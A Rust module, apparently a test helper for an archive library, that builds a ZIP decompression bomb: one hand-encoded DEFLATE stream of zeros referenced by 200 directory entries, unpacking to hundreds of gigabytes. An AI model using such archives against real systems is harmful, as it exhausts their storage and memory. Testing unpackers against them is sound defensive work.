//! Archives that would unpack to hundreds of gigabytes: many names for one file, which is zeros in the shortest form that the
//! simplest code of DEFLATE has (RFC 1951, 3.2.6).

/// Names in an archive, each of the same compressed bytes (D. Fifield, A better zip bomb).
const NAMES: usize = 200;
/// Repetitions of the same 13 bytes: 8 × 258 zeros each.
const REPETITIONS: usize = 700_000;
const TIMES_AND_HASH: [u8; 8] = [0, 0, 0x21, 0, 0, 0, 0, 0];

/// An archive with these names first; what it says it unpacks to, in bytes.
pub(crate) fn bomb(first: &[&str]) -> (Vec<u8>, u64) {
    let (zeros, size) = zeros();
    let numbers = (first.len()..NAMES).map(|number| number.to_string());
    let names: Vec<String> = first.iter().map(|name| (*name).to_owned()).chain(numbers).collect();
    let common = |name: &str| {
        let sizes = [zeros.len(), size].map(|size| (size as u32).to_le_bytes()).concat();
        let name_length = (name.len() as u16).to_le_bytes();
        [&[20, 0, 0, 0, 8, 0], &TIMES_AND_HASH[..], &sizes, &name_length, &[0, 0]].concat()
    };
    let mut archive = [b"PK\x03\x04".as_slice(), &common(&names[0]), names[0].as_bytes(), &zeros].concat();
    let directory = archive.len();
    for name in &names {
        archive.extend([b"PK\x01\x02\x14\0".as_slice(), &common(name), &[0; 14], name.as_bytes()].concat());
    }
    let length = ((archive.len() - directory) as u32).to_le_bytes();
    let count = (names.len() as u16).to_le_bytes();
    let position = (directory as u32).to_le_bytes();
    archive.extend([b"PK\x05\x06\0\0\0\0".as_slice(), &count, &count, &length, &position, &[0, 0]].concat());
    (archive, (size * NAMES) as u64)
}

/// Zeros, compressed, and how many.
fn zeros() -> (Vec<u8>, usize) {
    // One block, the last, in the fixed code; a zero; 24 times the longest repetition of what stands before; the end.
    let bits = ["110", "00110000", &"1100010100000".repeat(24), "0000000"].concat();
    let bytes: Vec<u8> = bits.as_bytes().chunks(8).map(|bits| bits.iter().rev().fold(0, next_bit)).collect();
    // Eight repetitions are 13 bytes.
    let compressed = [&bytes[..2], &bytes[2..15].repeat(REPETITIONS), &bytes[2..]].concat();
    (compressed, 1 + 258 * (24 + 8 * REPETITIONS))
}

fn next_bit(byte: u8, digit: &u8) -> u8 {
    byte << 1 | (digit - b'0')
}
